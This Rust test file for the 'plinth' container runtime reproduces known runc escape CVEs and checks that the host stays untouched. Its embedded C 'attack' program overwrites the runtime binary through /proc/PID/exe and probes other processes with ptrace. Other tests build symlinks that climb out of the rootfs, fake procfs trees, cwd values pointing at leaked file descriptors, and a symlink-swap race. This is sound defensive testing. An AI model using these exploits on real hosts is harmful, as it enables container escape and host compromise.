//! Issue 4: the known runtime escapes, each set up for real against the `plinth`
//! binary, with the host checked afterwards. Every attack targets only scratch files
//! and directories this test creates (and, for CVE-2025-31133, reads the real
//! core_pattern without ever writing it). Where an attack needs a process inside the
//! container faster than busybox, a small static C program (`attack`, compiled here
//! with gcc) plays the attacker, as runc's own reproducers do.
//!
//! gcc comes with the Debian image these tests run on; without it the tests that need
//! the attacker program say SKIP.
#![allow(clippy::unwrap_used)]

use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use plinth_tests::{mounts_under, need_root, pass_fd, plinth_bin, text, unique, Bundle, TempDir};

// ---------------------------------------------------------------------------------
// helpers

/// The attacker that runs inside a container. `attack overwrite SECS`: find a process
/// whose executable is neither busybox nor itself (the runtime), open its
/// /proc/PID/exe and, once it is no longer busy, open it for writing through
/// /proc/self/fd and overwrite it (CVE-2019-5736). `attack ptrace SECS`: for every
/// other process that appears, try PTRACE_SEIZE, open /proc/PID/exe and list
/// /proc/PID/fd, and report each result (CVE-2016-9962); never writes anything.
const ATTACK_C: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
static void say(const char *fmt, ...) {
    char b[512]; va_list ap; va_start(ap, fmt); int n = vsnprintf(b, sizeof b, fmt, ap); va_end(ap);
    if (write(1, b, n) < 0) {}
}

int main(int argc, char **argv) {
    if (argc < 3) return 2;
    const char *mode = argv[1];
    double deadline = now() + atof(argv[2]);
    pid_t self = getpid();
    struct stat me, bb;
    if (stat("/proc/self/exe", &me) < 0 || stat("/bin/busybox", &bb) < 0) { say("stat: %s\n", strerror(errno)); return 1; }
    int seen[4096]; int nseen = 0;
    say("ready %s\n", mode);
    while (now() < deadline) {
        DIR *d = opendir("/proc");
        if (!d) { say("opendir /proc: %s\n", strerror(errno)); return 1; }
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == self) continue;
            char p[64];
            if (!strcmp(mode, "ptrace")) {
                int done = 0;
                for (int i = 0; i < nseen; i++) if (seen[i] == pid) done = 1;
                if (done || nseen == 4096) continue;
                seen[nseen++] = pid;
                long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
                int pe = r < 0 ? errno : 0;
                if (r == 0) ptrace(PTRACE_DETACH, pid, 0, 0);
                snprintf(p, sizeof p, "/proc/%d/exe", pid);
                int fd = open(p, O_RDONLY | O_CLOEXEC);
                int ee = fd < 0 ? errno : 0;
                if (fd >= 0) close(fd);
                snprintf(p, sizeof p, "/proc/%d/fd", pid);
                DIR *fdd = opendir(p);
                int fe = fdd ? 0 : errno, listed = 0, opened = 0;
                if (fdd) {
                    struct dirent *f;
                    while ((f = readdir(fdd))) {
                        if (f->d_name[0] == '.') continue;
                        listed++;
                        char q[96];
                        snprintf(q, sizeof q, "/proc/%d/fd/%s", pid, f->d_name);
                        int x = open(q, O_PATH | O_CLOEXEC);
                        if (x >= 0) { opened++; close(x); } else if (!fe) fe = errno;
                    }
                    closedir(fdd);
                }
                say("pid %d ptrace=%s exe=%s fds=%d opened=%d (%s)\n", pid, pe ? strerror(pe) : "ATTACHED",
                    ee ? strerror(ee) : "OPENED", listed, opened, fe ? strerror(fe) : "-");
                continue;
            }
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH | O_CLOEXEC);
            if (fd < 0) continue;
            struct stat st;
            if (fstat(fd, &st) < 0 || (st.st_dev == me.st_dev && st.st_ino == me.st_ino) ||
                (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) { close(fd); continue; }
            say("opened exe of pid %d\n", pid);
            char via[64];
            snprintf(via, sizeof via, "/proc/self/fd/%d", fd);
            while (now() < deadline) {
                int w = open(via, O_WRONLY | O_TRUNC | O_CLOEXEC);
                if (w < 0) {
                    if (errno == ETXTBSY) { usleep(200); continue; }
                    say("open for write: %s\n", strerror(errno));
                    /* Stay: a pid namespace whose init exits takes the victim with it. */
                    while (now() < deadline) usleep(10000);
                    return 0;
                }
                static const char payload[] = "#!/bin/sh\necho overwritten-from-a-container\n";
                ssize_t n = write(w, payload, sizeof payload - 1);
                if (n < 0) say("write: %s\n", strerror(errno));
                else say("OVERWROTE the runtime binary (%zd bytes)\n", n);
                return 0;
            }
            say("still busy at the deadline\n");
            return 0;
        }
        closedir(d);
    }
    say("deadline\n");
    return 0;
}
"##;

/// Compiles the attacker statically into `rootfs/bin/attack`; None (and SKIP) without gcc.
fn install_attacker(b: &Bundle, test: &str) -> bool {
    let ok = plinth_tests::compile_static(ATTACK_C, &b.tmp.0.join("attack"), test);
    if ok {
        std::fs::copy(b.tmp.0.join("attack"), b.dir.join("rootfs/bin/attack")).unwrap();
    }
    ok
}

/// A private copy of the runtime binary, so that a successful CVE-2019-5736 attack
/// overwrites a scratch file and never the binary everyone else runs.
fn plinth_copy(dir: &Path) -> PathBuf {
    let d = dir.join("runtime-copy");
    std::fs::create_dir_all(&d).unwrap();
    let p = d.join("plinth");
    std::fs::copy(plinth_bin(), &p).unwrap();
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert_ne!(p, plinth_bin());
    p
}

/// `create` (with BIN) whose container writes its stdout/stderr to files; returns the
/// stdout path. Panics with stderr when create fails.
fn create_logged(bin: &Path, b: &Bundle, id: &str) -> PathBuf {
    b.write();
    let out = b.tmp.0.join(format!("{id}.stdout"));
    let err = b.tmp.0.join(format!("{id}.stderr"));
    let status = Command::new(bin)
        .arg("--root")
        .arg(&b.root)
        .args(["create", "--bundle"])
        .arg(&b.dir)
        .arg(id)
        .stdin(Stdio::null())
        .stdout(std::fs::File::create(&out).unwrap())
        .stderr(std::fs::File::create(&err).unwrap())
        .status()
        .unwrap();
    assert!(
        status.success(),
        "create {id}: {}",
        std::fs::read_to_string(&err).unwrap_or_default()
    );
    out
}

/// Waits until `file` contains `needle` (or the time is up); returns its content.
fn wait_for(file: &Path, needle: &str, secs: u64) -> String {
    let deadline = Instant::now() + Duration::from_secs(secs);
    loop {
        let text = std::fs::read_to_string(file).unwrap_or_default();
        if text.contains(needle) || Instant::now() > deadline {
            return text;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Every path below `dir` with its content (files) or target (symlinks), sorted.
fn snapshot(dir: &Path) -> Vec<String> {
    let mut out = vec![];
    fn walk(d: &Path, base: &Path, out: &mut Vec<String>) {
        let Ok(rd) = std::fs::read_dir(d) else { return };
        for e in rd.flatten() {
            let p = e.path();
            let rel = p.strip_prefix(base).unwrap().display().to_string();
            let md = std::fs::symlink_metadata(&p).unwrap();
            if md.file_type().is_symlink() {
                out.push(format!(
                    "{rel} -> {}",
                    std::fs::read_link(&p).unwrap().display()
                ));
            } else if md.is_dir() {
                out.push(format!("{rel}/"));
                walk(&p, base, out);
            } else if md.is_file() {
                let c = std::fs::read(&p).unwrap_or_default();
                out.push(format!("{rel} = {:?}", String::from_utf8_lossy(&c)));
            } else {
                out.push(format!(
                    "{rel} (mode {:o}, rdev {:x})",
                    md.mode(),
                    md.rdev()
                ));
            }
        }
    }
    walk(dir, dir, &mut out);
    out.sort();
    out
}

fn mounts_mut(b: &mut Bundle) -> &mut Vec<Value> {
    b.config["mounts"].as_array_mut().unwrap()
}

/// Drops the config's mounts at `dest`.
fn remove_mount(b: &mut Bundle, dest: &str) {
    mounts_mut(b).retain(|m| m["destination"] != dest);
}

/// A relative symlink target from `rootfs/<depth components>` that climbs out to `host`
/// (`../../../..` far beyond the rootfs, then the host path).
fn climbing(host: &Path) -> String {
    format!(
        "{}{}",
        "../".repeat(24),
        host.display().to_string().trim_start_matches('/')
    )
}

/// Checks that nothing is mounted below `dir` and that it is still empty.
fn assert_untouched(dir: &Path, what: &str) {
    assert_eq!(
        mounts_under(dir),
        Vec::<String>::new(),
        "{what}: a mount landed on the host"
    );
    assert_eq!(
        snapshot(dir),
        Vec::<String>::new(),
        "{what}: created on the host"
    );
}

/// Checks that no mount is left below `dir` (a bundle's scratch directory).
fn assert_no_mounts(dir: &Path) {
    assert_eq!(mounts_under(dir), Vec::<String>::new(), "a mount leaked");
}

// ---------------------------------------------------------------------------------
// 1. /proc/self/exe overwrite (CVE-2019-5736)

/// Makes the container's process the attacker in overwrite mode (for 20 s), with
/// CAP_SYS_PTRACE (a config may grant it).
fn overwrite_attacker(b: &mut Bundle) {
    b.config["process"]["args"] = json!(["/bin/attack", "overwrite", "20"]);
    for set in ["bounding", "effective", "permitted"] {
        b.config["process"]["capabilities"][set]
            .as_array_mut()
            .unwrap()
            .push(json!("CAP_SYS_PTRACE"));
    }
}

/// Starts the created attacker `id` and waits until it says it is ready.
fn start_attacker(b: &Bundle, id: &str, out: &Path) {
    b.start(id);
    let text = wait_for(out, "ready", 5);
    assert!(
        text.contains("ready"),
        "the attacker did not start: {text:?}"
    );
}

/// A seccomp agent at `linux.seccomp.listenerPath` that the test answers when it
/// chooses. The runtime hands every new process's listener to it before that process
/// may execve, so holding the agent back holds the process inside the container,
/// before its execve, for as long as the test needs (a deterministic race window).
struct Agent {
    listener: std::os::unix::net::UnixListener,
    path: PathBuf,
}

impl Agent {
    /// Binds the agent and points the config's seccomp profile (allow all, notify on
    /// an unused syscall) at it.
    fn new(b: &mut Bundle) -> Agent {
        let path = b.tmp.0.join("agent.sock");
        let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
        // Backlog 0: one queued connection fills it, and the next connect blocks.
        // SAFETY: listen(2) on a socket we own.
        assert_eq!(unsafe { libc::listen(listener.as_raw_fd(), 0) }, 0);
        listener.set_nonblocking(true).unwrap();
        b.config["linux"]["seccomp"] = json!({
            "defaultAction": "SCMP_ACT_ALLOW",
            "listenerPath": path,
            "syscalls": [{"names": ["kexec_load"], "action": "SCMP_ACT_NOTIFY"}]
        });
        Agent { listener, path }
    }

    /// Accepts `n` connections (up to 5 s), dropping them.
    fn take(&self, n: usize) -> usize {
        let t0 = Instant::now();
        let mut got = 0;
        while got < n && t0.elapsed() < Duration::from_secs(5) {
            match self.listener.accept() {
                Ok(_) => got += 1,
                Err(_) => std::thread::sleep(Duration::from_millis(5)),
            }
        }
        got
    }

    /// Fills the backlog: the next hand-over blocks until `release`.
    fn hold(&self) -> std::os::unix::net::UnixStream {
        std::os::unix::net::UnixStream::connect(&self.path).unwrap()
    }

    /// Lets the held hand-over through.
    fn release(&self, filler: std::os::unix::net::UnixStream) -> usize {
        let n = self.take(2);
        drop(filler);
        n
    }
}

/// During `exec`: the runtime's process sits in the container (held before its execve)
/// while a container process with CAP_SYS_PTRACE opens its /proc/PID/exe and, once
/// the process has exec'd, writes through it. The exec'd program is also a
/// `#!/proc/self/exe` script, the classic vector (this kernel already refuses to
/// execute a /proc/self/exe outside the container's mounts with ENOENT).
#[test]
fn cve_2019_5736_exec_cannot_overwrite_the_runtime() {
    let name = "cve_2019_5736_exec_cannot_overwrite_the_runtime";
    if !need_root(name) {
        return;
    }
    let mut b = Bundle::busybox("true");
    if !install_attacker(&b, name) {
        return;
    }
    std::fs::write(b.dir.join("rootfs/bin/evil"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(
        b.dir.join("rootfs/bin/evil"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    let copy = plinth_copy(&b.tmp.0);
    let before = std::fs::read(&copy).unwrap();
    let agent = Agent::new(&mut b);
    let id = unique("exe");
    overwrite_attacker(&mut b);
    let out = create_logged(&plinth_bin(), &b, &id);
    assert_eq!(agent.take(1), 1, "the init never handed its listener over");
    start_attacker(&b, &id, &out);
    let filler = agent.hold();
    let exec = Command::new(&copy)
        .arg("--root")
        .arg(&b.root)
        .args(["exec", &id, "/bin/evil"])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let seen = wait_for(&out, "opened exe", 5);
    agent.release(filler);
    let eo = exec.wait_with_output().unwrap();
    let text = wait_for(&out, "OVERWROTE", 3) + &seen;
    let _ = b.plinth(&["delete", "--force", &id]);
    assert_attack_failed(&copy, &before, &text, &format!("during exec ({eo:?})"));
}

/// The runtime's binary is unchanged, and the attacker did get as far as opening it.
fn assert_attack_failed(copy: &Path, before: &[u8], text: &str, when: &str) {
    assert!(
        std::fs::read(copy).unwrap() == before,
        "a container overwrote the runtime's binary through /proc/PID/exe {when}; attacker said: {text}"
    );
    assert!(
        text.contains("opened exe"),
        "the attack was never set up {when}: {text}"
    );
}

/// With CAP_SYS_PTRACE (a config may grant it) non-dumpable is no protection: the
/// attacker opens the exe of a created (waiting) init in its pid namespace and writes
/// it as soon as `start` makes the init exec. Only an image that no one can write
/// (runtime/src/sealed.rs) protects the host.
#[test]
fn cve_2019_5736_run_cannot_overwrite_the_runtime_through_a_waiting_init() {
    let name = "cve_2019_5736_run_cannot_overwrite_the_runtime_through_a_waiting_init";
    if !need_root(name) {
        return;
    }
    // Once through the read-only view, once through the sealed memfd copy (the state
    // root inside the binary's directory rules the view out; see the next test).
    for sealed_copy in [false, true] {
        let mut a = Bundle::busybox("true");
        if !install_attacker(&a, name) {
            return;
        }
        let copy = plinth_copy(&a.tmp.0);
        if sealed_copy {
            a.root = copy.parent().unwrap().join("state");
        }
        let before = std::fs::read(&copy).unwrap();
        let ida = unique("pod");
        overwrite_attacker(&mut a);
        let out = create_logged(&plinth_bin(), &a, &ida);
        start_attacker(&a, &ida, &out);
        let pid_a = a.state(&ida)["pid"].as_i64().unwrap();

        let mut b = Bundle::busybox("true");
        b.config["process"]["args"] = json!(["true"]);
        for ns in b.config["linux"]["namespaces"].as_array_mut().unwrap() {
            if ns["type"] == "pid" {
                ns["path"] = json!(format!("/proc/{pid_a}/ns/pid"));
            }
        }
        b.root = a.root.clone();
        let idb = unique("victim");
        let _ = create_logged(&copy, &b, &idb);
        let text = wait_for(&out, "opened exe", 5);
        b.start(&idb);
        let text = wait_for(&out, "OVERWROTE", 3) + &text;
        let _ = b.plinth(&["delete", "--force", &idb]);
        let _ = a.plinth(&["delete", "--force", &ida]);
        let when = format!("of a waiting init (sealed copy: {sealed_copy})");
        assert_attack_failed(&copy, &before, &text, &when);
    }
}

/// Which image protects the runtime (runtime/src/sealed.rs): as root, a read-only
/// overlayfs view of its own binary; where the view cannot be made (here the state root
/// lies inside the binary's directory, which overlayfs refuses as overlapping layers),
/// a sealed memfd copy. Either way the waiting init's /proc/PID/exe cannot be written.
#[test]
fn a_waiting_init_runs_from_a_read_only_view_or_else_a_sealed_copy() {
    if !need_root("a_waiting_init_runs_from_a_read_only_view_or_else_a_sealed_copy") {
        return;
    }
    for overlapping in [false, true] {
        let mut b = Bundle::busybox("sleep 10");
        let copy = plinth_copy(&b.tmp.0);
        if overlapping {
            b.root = copy.parent().unwrap().join("state");
        }
        let id = unique("view");
        let _ = create_logged(&copy, &b, &id);
        let pid = b.state(&id)["pid"].as_i64().unwrap();
        let exe = format!("/proc/{pid}/exe");
        let target = std::fs::read_link(&exe).unwrap();
        let fs = nix::sys::statfs::statfs(exe.as_str())
            .unwrap()
            .filesystem_type();
        let opened = std::fs::OpenOptions::new().write(true).open(&exe);
        let wrote = opened.map(|mut f| std::io::Write::write(&mut f, b"x"));
        // The view's mount fd, kept open across the runtime's re-exec, was let go by
        // the runtime and by the init: the init holds no fd on an overlayfs.
        let held: Vec<String> = std::fs::read_dir(format!("/proc/{pid}/fd"))
            .unwrap()
            .flatten()
            .filter(|e| {
                nix::sys::statfs::statfs(&e.path())
                    .is_ok_and(|s| s.filesystem_type() == nix::sys::statfs::OVERLAYFS_SUPER_MAGIC)
            })
            .map(|e| format!("{:?}", std::fs::read_link(e.path())))
            .collect();
        let _ = b.plinth(&["delete", "--force", &id]);
        assert!(
            held.is_empty(),
            "the waiting init holds fds on the runtime's view: {held:?}"
        );
        if overlapping {
            assert!(
                target.to_string_lossy().starts_with("/memfd:plinth-sealed"),
                "state root inside the binary's directory: expected the sealed memfd copy, exe is {target:?}"
            );
        } else {
            assert_eq!(
                fs,
                nix::sys::statfs::OVERLAYFS_SUPER_MAGIC,
                "expected the read-only overlayfs view, exe is {target:?}"
            );
            assert_eq!(target.file_name(), copy.file_name());
            match &wrote {
                Err(e) => assert_eq!(e.raw_os_error(), Some(libc::EROFS), "{e}"),
                Ok(_) => panic!("the view of the runtime's binary opened for writing"),
            }
        }
        assert!(
            !matches!(wrote, Ok(Ok(_))),
            "wrote into the waiting init's exe ({target:?})"
        );
    }
    // Nor does the container's process, or a hook that inherits the runtime's
    // environment (one without `env`), see the fd's number.
    let mut b = Bundle::busybox("env; ls /proc/self/fd");
    let copy = plinth_copy(&b.tmp.0);
    let hook_env = b.tmp.0.join("hook-env");
    b.config["hooks"] = json!({"createRuntime": [{
        "path": "/bin/sh",
        "args": ["sh", "-c", format!("env > {}", hook_env.display())]
    }]});
    let (code, text, err) = b.run_with(&copy, &unique("viewenv"));
    assert_eq!(code, 0, "run: {text} {err}");
    assert!(text.contains("PATH="), "no environment printed: {text}");
    assert!(
        !text.contains("_PLINTH_VIEW_FD"),
        "the view's fd number reached the container: {text}"
    );
    let hook_text = std::fs::read_to_string(&hook_env).unwrap();
    assert!(
        hook_text.contains("PATH="),
        "the hook printed no environment: {hook_text}"
    );
    assert!(
        !hook_text.contains("_PLINTH_VIEW_FD"),
        "the view's fd number reached a hook: {hook_text}"
    );
}

// ---------------------------------------------------------------------------------
// 2. leaked fds and a cwd outside the root (CVE-2024-21626)

/// Runs `cmd` (given the caller's fd 5 on a host directory holding a secret): checks
/// that it succeeded and never read the secret; returns the fds the process listed.
fn fds_seen(cmd: &mut Command, what: &str) -> String {
    let out = cmd.stdin(Stdio::null()).output().unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "{what}: {out:?}");
    assert!(
        !text.contains("host-secret"),
        "{what}: the caller's fd reached the container: {text}"
    );
    text.lines().next().unwrap().trim().to_string()
}

#[test]
fn cve_2024_21626_cwd_through_any_fd_is_refused_in_run() {
    if !need_root("cve_2024_21626_cwd_through_any_fd_is_refused_in_run") {
        return;
    }
    for n in 3..=20 {
        // Only reads: if the cwd escaped, `ls ..` shows a host directory.
        let mut b = Bundle::busybox("pwd; ls ..");
        b.config["process"]["cwd"] = json!(format!("/proc/self/fd/{n}"));
        let (code, out, err) = b.run(&unique("cwd"));
        assert_ne!(code, 0, "fd {n}: the container ran with cwd {out:?}");
        assert!(out.is_empty(), "fd {n}: the process ran: {out:?}");
        assert!(
            err.contains("cwd") || err.contains("working directory"),
            "fd {n}: the error does not say what is wrong: {err}"
        );
    }
}

#[test]
fn cve_2024_21626_cwd_through_any_fd_is_refused_in_exec() {
    if !need_root("cve_2024_21626_cwd_through_any_fd_is_refused_in_exec") {
        return;
    }
    let b = Bundle::busybox("sleep 30");
    let id = unique("cwdx");
    b.create(&id);
    b.start(&id);
    for n in 3..=20 {
        let cwd = format!("/proc/self/fd/{n}");
        let (code, out, err) =
            b.plinth_detached(&["exec", "--cwd", &cwd, &id, "sh", "-c", "pwd; ls .."]);
        assert_ne!(code, 0, "exec --cwd {cwd}: ran with {out:?}");
        assert!(out.is_empty(), "exec --cwd {cwd}: the process ran: {out:?}");
        assert!(
            err.contains("cwd") || err.contains("working directory"),
            "exec --cwd {cwd}: unclear error: {err}"
        );
    }
    let _ = b.plinth(&["delete", "--force", &id]);
}

/// The caller's `exec 5<$dir` (a non-CLOEXEC fd on a host directory holding a secret)
/// never reaches the container, in `run` or `exec`; only 0-2 and --preserve-fds do.
#[test]
fn cve_2024_21626_callers_fds_never_reach_the_container() {
    if !need_root("cve_2024_21626_callers_fds_never_reach_the_container") {
        return;
    }
    let host = TempDir::new("plinth-leak");
    std::fs::write(host.0.join("secret"), "host-secret-21626\n").unwrap();
    let dir = std::fs::File::open(&host.0).unwrap();
    let script =
        "ls /proc/self/fd | sort -n | tr '\\n' ' '; echo; cat /proc/self/fd/5/secret 2>&1; \
                  cat /proc/self/fd/4/secret 2>&1; true";
    let b = Bundle::busybox(script);
    b.write();

    // run, no preserved fds: the caller's fd 5 is open and inheritable.
    let mut cmd = b.cmd();
    cmd.args(["run", "--bundle"])
        .arg(&b.dir)
        .arg(unique("leak"));
    pass_fd(&mut cmd, &dir, 5);
    // ls holds one fd of its own on the directory it lists: that is 3.
    assert_eq!(fds_seen(&mut cmd, "run"), "0 1 2 3");

    // run --preserve-fds 1: fd 3 passes, fd 5 does not.
    let passed = std::fs::File::open("/dev/null").unwrap();
    let mut cmd = b.cmd();
    cmd.args(["run", "--preserve-fds", "1", "--bundle"])
        .arg(&b.dir)
        .arg(unique("leak"));
    pass_fd(&mut cmd, &passed, 3);
    pass_fd(&mut cmd, &dir, 5);
    assert_eq!(fds_seen(&mut cmd, "run --preserve-fds 1"), "0 1 2 3 4");

    // exec into a running container, with the same leak.
    let c = Bundle::busybox("sleep 30");
    let id = unique("leakx");
    c.create(&id);
    c.start(&id);
    let mut cmd = c.cmd();
    cmd.args(["exec", &id, "sh", "-c", script]);
    pass_fd(&mut cmd, &dir, 5);
    assert_eq!(fds_seen(&mut cmd, "exec"), "0 1 2 3");
    let _ = c.plinth(&["delete", "--force", &id]);
}

// ---------------------------------------------------------------------------------
// 3. /proc and /sys as symlinks or fake trees

fn symlinked_mountpoint_is_refused(which: &str, relative: bool) {
    let host = TempDir::new("plinth-bad");
    let mut b = Bundle::busybox("true");
    let p = b.dir.join("rootfs").join(which);
    std::fs::remove_dir_all(&p).unwrap();
    let target = if relative {
        climbing(&host.0)
    } else {
        host.0.display().to_string()
    };
    std::os::unix::fs::symlink(&target, &p).unwrap();
    // Also a same-named directory inside the rootfs, so that a runtime resolving the
    // link in the root has somewhere to mount (and must still refuse).
    std::fs::create_dir_all(b.dir.join("rootfs").join(host.0.strip_prefix("/").unwrap())).unwrap();
    b.config["process"]["args"] = json!(["true"]);
    let (code, out, err) = b.run(&unique("sym"));
    assert_untouched(&host.0, &format!("/{which} -> {target}"));
    assert_ne!(code, 0, "/{which} -> {target} was accepted: {out} {err}");
    assert!(err.contains(which), "the error should name /{which}: {err}");
}

#[test]
fn cve_2019_19921_proc_symlink_is_refused() {
    if !need_root("cve_2019_19921_proc_symlink_is_refused") {
        return;
    }
    symlinked_mountpoint_is_refused("proc", false);
    symlinked_mountpoint_is_refused("proc", true);
}

#[test]
fn cve_2023_28642_sys_symlink_is_refused() {
    if !need_root("cve_2023_28642_sys_symlink_is_refused") {
        return;
    }
    symlinked_mountpoint_is_refused("sys", false);
    symlinked_mountpoint_is_refused("sys", true);
}

/// A fake procfs tree from the host (a volume) mounted over /proc.
fn fake_proc(host: &Path) {
    for (f, c) in [
        ("self/attr/exec", "ORIGINAL-attr\n"),
        ("self/attr/current", "ORIGINAL-attr\n"),
        ("sys/kernel/shmmni", "ORIGINAL-shmmni\n"),
        ("sys/net/ipv4/ip_forward", "ORIGINAL-forward\n"),
    ] {
        let p = host.join(f);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, c).unwrap();
    }
}

#[test]
fn cve_2019_16884_fake_proc_over_proc_is_refused() {
    if !need_root("cve_2019_16884_fake_proc_over_proc_is_refused") {
        return;
    }
    let host = TempDir::new("plinth-fakeproc");
    fake_proc(&host.0);
    let before = snapshot(&host.0);
    let mut b = Bundle::busybox("cat /proc/self/attr/exec");
    mounts_mut(&mut b).push(json!({"destination": "/proc", "type": "bind",
        "source": host.0, "options": ["rbind", "rw"]}));
    let (code, out, err) = b.run(&unique("fakeproc"));
    assert_eq!(snapshot(&host.0), before, "the fake tree was written");
    assert!(mounts_under(&host.0).is_empty());
    assert_ne!(
        code, 0,
        "a non-procfs mount over /proc was accepted (the process read {out:?}) {err}"
    );
    assert!(err.contains("/proc"), "the error should name /proc: {err}");
}

/// Sysctls are written only through an fd on a real procfs: a fake /proc/sys makes
/// create fail and is never written (CVE-2025-52881, first half).
#[test]
fn cve_2025_52881_sysctl_through_a_fake_proc_sys_is_refused() {
    if !need_root("cve_2025_52881_sysctl_through_a_fake_proc_sys_is_refused") {
        return;
    }
    let host = TempDir::new("plinth-fakesys");
    fake_proc(&host.0);
    let before = snapshot(&host.0);
    let mut b = Bundle::busybox("cat /proc/sys/kernel/shmmni");
    mounts_mut(&mut b).push(json!({"destination": "/proc/sys", "type": "bind",
        "source": host.0.join("sys"), "options": ["rbind", "rw"]}));
    b.config["linux"]["sysctl"] = json!({"kernel.shmmni": "1234", "net.ipv4.ip_forward": "1"});
    let (code, out, err) = b.run(&unique("fakesys"));
    assert_eq!(
        snapshot(&host.0),
        before,
        "a sysctl was written into the fake tree"
    );
    assert!(mounts_under(&host.0).is_empty());
    assert_ne!(
        code, 0,
        "sysctls through a fake /proc/sys were accepted: {out} {err}"
    );
}

/// A real procfs file mounted over the sysctl's file (an overmount, as the racing
/// attack of CVE-2025-52881 builds): the write must land on the file asked for, or
/// create must fail. The decoy is the UTS namespace's domainname, so nothing on the
/// host can change even when the runtime is fooled.
#[test]
fn cve_2025_52881_sysctl_write_lands_on_the_file_asked_for() {
    if !need_root("cve_2025_52881_sysctl_write_lands_on_the_file_asked_for") {
        return;
    }
    let host_domain = std::fs::read_to_string("/proc/sys/kernel/domainname").unwrap();
    let want = format!("sysctl-{}", std::process::id());
    let mut b = Bundle::busybox("hostname; cat /proc/sys/kernel/domainname");
    mounts_mut(&mut b).push(
        json!({"destination": "/proc/sys/kernel/hostname", "type": "bind",
        "source": "/proc/sys/kernel/domainname", "options": ["bind"]}),
    );
    b.config["linux"]["sysctl"] = json!({"kernel.hostname": want});
    let (code, out, err) = b.run(&unique("redir"));
    assert_eq!(
        std::fs::read_to_string("/proc/sys/kernel/domainname").unwrap(),
        host_domain
    );
    if code == 0 {
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(
            lines.first().copied(),
            Some(want.as_str()),
            "kernel.hostname was written somewhere else (domainname is {:?}): {out:?}",
            lines.get(1)
        );
        assert_ne!(lines.get(1).copied(), Some(want.as_str()), "{out:?}");
    } else {
        assert!(
            err.contains("linux.sysctl.kernel.hostname"),
            "a refusal names the sysctl: {err}"
        );
    }
}

// ---------------------------------------------------------------------------------
// 4. mount destinations through symlinks (CVE-2021-30465, CVE-2024-45310)

#[test]
fn cve_2021_30465_mount_destinations_through_symlinks_stay_in_the_rootfs() {
    if !need_root("cve_2021_30465_mount_destinations_through_symlinks_stay_in_the_rootfs") {
        return;
    }
    let host = TempDir::new("plinth-target");
    let src = TempDir::new("plinth-src");
    std::fs::write(src.0.join("file"), "bound\n").unwrap();
    for relative in [false, true] {
        let mut b = Bundle::busybox(
            "cat /mnt/file/x 2>&1; cat /up/file 2>&1; grep -c tmpfs-dest /proc/self/mountinfo; true",
        );
        let target = if relative {
            climbing(&host.0)
        } else {
            host.0.display().to_string()
        };
        std::os::unix::fs::symlink(&target, b.dir.join("rootfs/mnt")).unwrap();
        std::os::unix::fs::symlink(&target, b.dir.join("rootfs/up")).unwrap();
        let m = mounts_mut(&mut b);
        m.push(json!({"destination": "/mnt/tmpfs-dest", "type": "tmpfs", "source": "tmpfs"}));
        m.push(json!({"destination": "/mnt/dir/sub", "type": "bind", "source": src.0, "options": ["rbind"]}));
        m.push(json!({"destination": "/up/file", "type": "bind", "source": src.0.join("file"), "options": ["bind"]}));
        let (code, out, err) = b.run(&unique("mnt"));
        assert_untouched(&host.0, &format!("/mnt -> {target}"));
        assert_no_mounts(&b.tmp.0);
        if code == 0 {
            assert!(
                out.contains("bound"),
                "the bind landed nowhere visible: {out}"
            );
        } else {
            assert!(err.contains("mnt"), "a refusal names the mount: {err}");
        }
    }
}

/// The race: a host thread (standing for a second container sharing the volume) swaps
/// a directory in the rootfs with a symlink to a host directory while containers with
/// mounts below it start. Bounded: 40 containers or 20 s.
#[test]
fn cve_2024_45310_raced_symlink_swap_never_reaches_the_host() {
    if !need_root("cve_2024_45310_raced_symlink_swap_never_reaches_the_host") {
        return;
    }
    let host = TempDir::new("plinth-race-target");
    let src = TempDir::new("plinth-race-src");
    std::fs::write(src.0.join("file"), "bound\n").unwrap();
    let mut b = Bundle::busybox("true");
    let vol = b.dir.join("rootfs/vol");
    std::fs::create_dir_all(vol.join("dir")).unwrap();
    std::os::unix::fs::symlink(&host.0, vol.join("link")).unwrap();
    let m = mounts_mut(&mut b);
    m.push(json!({"destination": "/vol/dir/a/b", "type": "tmpfs", "source": "tmpfs"}));
    m.push(json!({"destination": "/vol/dir/c/file", "type": "bind", "source": src.0.join("file"), "options": ["bind"]}));
    m.push(
        json!({"destination": "/vol/dir/d", "type": "bind", "source": src.0, "options": ["rbind"]}),
    );
    b.write();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let stop = stop.clone();
        let (d, l) = (
            std::ffi::CString::new(vol.join("dir").to_str().unwrap()).unwrap(),
            std::ffi::CString::new(vol.join("link").to_str().unwrap()).unwrap(),
        );
        std::thread::spawn(move || {
            let mut swaps = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                // SAFETY: renameat2 on two C strings we own.
                unsafe {
                    libc::renameat2(
                        libc::AT_FDCWD,
                        d.as_ptr(),
                        libc::AT_FDCWD,
                        l.as_ptr(),
                        libc::RENAME_EXCHANGE,
                    )
                };
                swaps += 1;
            }
            swaps
        })
    };
